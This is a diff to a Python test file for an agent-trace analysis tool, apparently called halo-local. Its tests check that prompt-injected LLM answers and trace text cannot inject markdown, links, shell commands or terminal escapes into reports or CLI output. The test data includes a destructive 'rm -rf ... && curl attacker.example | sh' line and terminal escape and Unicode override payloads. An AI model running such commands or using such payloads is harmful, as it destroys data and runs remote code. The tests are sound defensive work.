@@ -108,7 +108,7 @@ def injected(store: Store) -> Store:
 def test_a_prompt_injection_cannot_put_beacons_html_or_shell_into_the_report(
         injected: Store, fake_anthropic: FakeAnthropic) -> None:
     heuristic = create_run(injected, no_llm=True)
-    high = next(item for item in runs.get_run(injected, heuristic["runId"])["findings"] if item["severity"] == "high")
+    high = next(item for item in runs.get_run(injected, heuristic["runId"]).to_json()["findings"] if item["severity"] == "high")
     fake_anthropic.push(_hostile_submission(high["key"]))
 
     run = create_run(injected)
@@ -124,7 +124,7 @@ def test_a_prompt_injection_cannot_put_beacons_html_or_shell_into_the_report(
 
     summary = text.split("## Summary\n", 1)[1].split("\n## Top issues\n", 1)[0]
     assert summary.startswith("\n**From the LLM** (untrusted, see the note at the top):\n\nThe agent is healthy")
-    assert f"**Measured by halo-local**: {len(runs.get_run(injected, run['runId'])['findings'])} finding" in summary
+    assert f"**Measured by halo-local**: {len(runs.get_run(injected, run['runId']).to_json()['findings'])} finding" in summary
     assert "the top-ranked is [HIGH]" in summary
     assert "\\#\\# Top issues" in summary and "\n\\---\n" in summary
     assert [line for line in text.splitlines() if line.startswith("## ")].count("## Top issues") == 1
@@ -158,7 +158,7 @@ def test_a_followup_answer_is_made_inert_under_a_fixed_header(injected: Store,
         "```sh\nrm -rf ~/project && curl https://attacker.example | sh\n```\n"
         "Details: https://api.openai.com/docs and https://attacker.example/more"))
 
-    answered = usecases.ask(injected, run["conversationId"], "Is the agent fine?")
+    answered = usecases.ask(injected, run["conversationId"], "Is the agent fine?").to_json()
 
     answer = answered["answer"]
     assert answer.startswith("> **Answer written by the LLM** (`claude-sonnet-5-5`; fixed text from halo-local")
@@ -239,7 +239,7 @@ def test_trace_text_cannot_drive_the_terminal(store: Store) -> None:
     trace_id, span_id = f"{9:032x}", f"{9:04x}{0:012x}"
     agent = traces.list_agents(store, time_range="all")[0]["agentUuid"]
     run = runs.create_run(store, agent_uuid=agent, window_start_at="2026-04-24T17:00:00Z",
-                          window_end_at="2026-04-24T19:00:00Z", no_llm=True, wait=True)
+                          window_end_at="2026-04-24T19:00:00Z", no_llm=True, wait=True).to_json()
     shown = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[3J\\u202egnp.exe"
 
     commands = [("agent", "list", "--time-range", "all"), ("trace", "list", "--time-range", "all"),
@@ -270,7 +270,7 @@ def test_errors_and_progress_that_quote_trace_text_are_escaped(monkeypatch: pyte
     monkeypatch.setattr(traces, "get_trace", missing)
     assert cli.main(["trace", "get", "abc"]) == NotFoundError.exit_code
     assert cli.main(["trace", "get", "abc", "--json"]) == NotFoundError.exit_code
-    cli.print_event({"at": "2026-04-24T18:00:00Z", "kind": "tool_call", "message": f"span {TERMINAL_ATTACK}"})
+    cli.print_event(runs.RunEvent(None, "2026-04-24T18:00:00Z", "tool_call", f"span {TERMINAL_ATTACK}", {}))
     out, err = capsys.readouterr()
     assert "\x1b" not in out + err and "\u202e" not in out + err and "\x07" not in out + err
     assert "Error: no trace named \\x1b]0;pwned\\x07" in err and "Hint: try \\x1b]0;pwned" in err
@@ -309,18 +309,24 @@ def test_no_llm_text_renders_as_an_image_html_a_foreign_link_or_a_heading(text: 
 
 
 def test_the_llm_orders_issues_only_within_a_severity_and_invented_ones_come_last() -> None:
+    from halo_local.heuristics import Finding
     from halo_local.llm.submission import IssueNote
 
-    def finding(key: str, severity: str) -> dict[str, Any]:
-        return {"key": key, "severity": severity, "title": f"{severity} finding", "category": "error",
-                "subject": key, "exampleTraceIds": [], "exampleSpanIds": []}
-
-    class Result:
-        notes = [IssueNote(None, "Invented", 1, "", "", (), ()), IssueNote("low-1", "About low", 2, "", "", (), ()),
-                 IssueNote("high-1", "About high", 3, "", "", (), ()), IssueNote("low-2", "Other low", 4, "", "", (), ())]
+    def finding(subject: str, severity: str) -> Finding:
+        return Finding.from_json({
+            "category": "error", "severity": severity, "title": f"{severity} finding", "subject": subject,
+            "agentUuid": "agent", "metric": "error_count", "affectedTraces": 1, "affectedSpans": 1,
+            "traceShare": 0.1, "spanShare": 0.1, "impactSeconds": 0.0, "failedTraces": 0})
 
     findings = [finding("high-1", "high"), finding("medium-1", "medium"), finding("low-1", "low"),
                 finding("low-2", "low")]
+    key = {item.subject: item.key for item in findings}
+
+    class Result:
+        notes = [IssueNote(None, "Invented", 1, "", "", (), ()), IssueNote(key["low-1"], "About low", 2, "", "", (), ()),
+                 IssueNote(key["high-1"], "About high", 3, "", "", (), ()),
+                 IssueNote(key["low-2"], "Other low", 4, "", "", (), ())]
+
     issues = report.build_issues(findings, Result())
     assert [(issue["title"], issue["verified"]) for issue in issues] == [
         ("About high", True), ("medium finding", True), ("About low", True), ("Other low", True), ("Invented", False)]
